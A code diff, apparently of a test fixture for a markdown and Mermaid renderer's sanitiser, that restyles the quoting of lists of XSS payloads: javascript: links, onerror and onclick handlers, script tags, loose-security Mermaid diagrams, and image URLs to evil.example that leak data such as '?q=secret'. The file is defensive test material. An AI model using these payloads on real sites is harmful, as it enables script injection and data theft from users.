@@ -103,7 +103,7 @@ LINKS: Final = [
     f"[x][1]\n\n[1]: javascript:{_JS}",
     f"[x]\n\n[x]: javascript:{_JS}",
     f"[a](https://ok.example 'title\" onmouseover=\"{_JS}')",
-    f"[a](https://ok.example/\"onclick=\"{_JS})",
+    f'[a](https://ok.example/"onclick="{_JS})',
     f"[<img src=x onerror={_JS}>](https://ok.example)",
     f"[![x](javascript:{_JS})](javascript:{_JS})",
     "[https://bank.example](https://evil.example)",
@@ -120,8 +120,8 @@ IMAGES: Final = [
     "![secret][r]\n\n[r]: https://evil.example/?q=secret",
     "![](http://evil.example/pixel.gif)",
     "![](//evil.example/pixel.gif)",
-    f"![x](x\" onerror=\"{_JS})",
-    f"![\" onerror=\"{_JS}](https://evil.example/i.png)",
+    f'![x](x" onerror="{_JS})',
+    f'![" onerror="{_JS}](https://evil.example/i.png)',
     f"![x](javascript:{_JS})",
     "![x](/api/auth/sign-out)",
     "- ![a](https://evil.example/1)\n  - ![b](https://evil.example/2)",
@@ -130,7 +130,7 @@ IMAGES: Final = [
 
 CODE: Final = [
     f"```html\n<script>{_JS}</script>\n```",
-    f"```\"><img src=x onerror={_JS}>\nx\n```",
+    f'```"><img src=x onerror={_JS}>\nx\n```',
     f"```js onload={_JS}\nlet a\n```",
     f"`<img src=x onerror={_JS}>`",
     f"```html\n<img src=x onerror={_JS}>",
@@ -156,22 +156,23 @@ MATH: Final = [
 
 MERMAID: Final = [
     f"```mermaid\ngraph TD\nA[<img src=x onerror={_JS}>]-->B\n```",
-    f"```mermaid\ngraph TD\nA[\"<script>{_JS}</script>\"]-->B\n```",
-    f"```mermaid\ngraph TD\nA-->B\nclick A \"javascript:{_JS}\"\n```",
-    f"```mermaid\ngraph TD\nA-->B\nclick A call pwned()\nclick B href \"javascript:{_JS}\"\n```",
-    f"```mermaid\n%%{{init: {{\"securityLevel\": \"loose\", \"htmlLabels\": true}} }}%%\ngraph TD\nA[\"<b onclick={_JS}>x</b>\"]-->B\n```",
-    "```mermaid\n%%{init: {\"themeCSS\": \"*{background:url(https://evil.example/c)}\"}}%%\ngraph TD\nA-->B\n```",
-    f"```mermaid\n---\nconfig:\n  securityLevel: loose\n---\ngraph TD\nA[\"<img src=x onerror={_JS}>\"]-->B\n```",
+    f'```mermaid\ngraph TD\nA["<script>{_JS}</script>"]-->B\n```',
+    f'```mermaid\ngraph TD\nA-->B\nclick A "javascript:{_JS}"\n```',
+    f'```mermaid\ngraph TD\nA-->B\nclick A call pwned()\nclick B href "javascript:{_JS}"\n```',
+    "```mermaid\n%%{init: {'securityLevel': 'loose', 'htmlLabels': true} }%%\n"
+    f'graph TD\nA["<b onclick={_JS}>x</b>"]-->B\n```',
+    '```mermaid\n%%{init: {"themeCSS": "*{background:url(https://evil.example/c)}"}}%%\ngraph TD\nA-->B\n```',
+    f'```mermaid\n---\nconfig:\n  securityLevel: loose\n---\ngraph TD\nA["<img src=x onerror={_JS}>"]-->B\n```',
     "```mermaid\ngraph TD\nA-->B\nstyle A fill:url(https://evil.example/f)\n```",
-    "```mermaid\nflowchart TD\nA@{ img: \"https://evil.example/i.png\", label: \"x\" }\n```",
-    f"```mermaid\nsequenceDiagram\nAlice->>Bob: <script>{_JS}</script>\nlinks Alice: {{\"x\": \"javascript:{_JS}\"}}\n```",
-    f"```mermaid\nclassDiagram\nclass A[\"<svg onload={_JS}>\"]\nlink A \"javascript:{_JS}\"\n```",
+    '```mermaid\nflowchart TD\nA@{ img: "https://evil.example/i.png", label: "x" }\n```',
+    f'```mermaid\nsequenceDiagram\nA->>B: <script>{_JS}</script>\nlinks A: {{"x": "javascript:{_JS}"}}\n```',
+    f'```mermaid\nclassDiagram\nclass A["<svg onload={_JS}>"]\nlink A "javascript:{_JS}"\n```',
     f"```mermaid\nstateDiagram-v2\n[*] --> s\ns: <iframe srcdoc='<script>{_JS}</script>'>\n```",
-    f"```mermaid\npie title <img src=x onerror={_JS}>\n\"a\" : 1\n```",
-    "```mermaid\ngraph TD\nA[\"#lt;img src=x onerror=window.pwned=1#gt;\"]-->B\n```",
-    "```mermaid\ngantt\ntitle x\nsection s\na :a1, 2020-01-01, 30d\nclick a1 href \"javascript:window.pwned=1\"\n```",
+    f'```mermaid\npie title <img src=x onerror={_JS}>\n"a" : 1\n```',
+    '```mermaid\ngraph TD\nA["#lt;img src=x onerror=window.pwned=1#gt;"]-->B\n```',
+    '```mermaid\ngantt\ntitle x\nsection s\na :a1, 2020-01-01, 30d\nclick a1 href "javascript:window.pwned=1"\n```',
     "```mermaid\nnot a diagram at all <<<\n```",
-    "```mermaid\ngraph TD\nA[\"$$\\href{javascript:window.pwned=1}{x}$$\"]-->B\n```",
+    '```mermaid\ngraph TD\nA["$$\\href{javascript:window.pwned=1}{x}$$"]-->B\n```',
 ]
 
 EXHAUSTING: Final = [
@@ -190,7 +191,7 @@ EXHAUSTING: Final = [
 ]
 
 TITLES: Final = [
-    f"\"><img src=x onerror={_JS}>",
+    f'"><img src=x onerror={_JS}>',
     f"'-{_JS}-'",
     f"{{{{{_JS}}}}}",
     f"${{{_JS}}}",
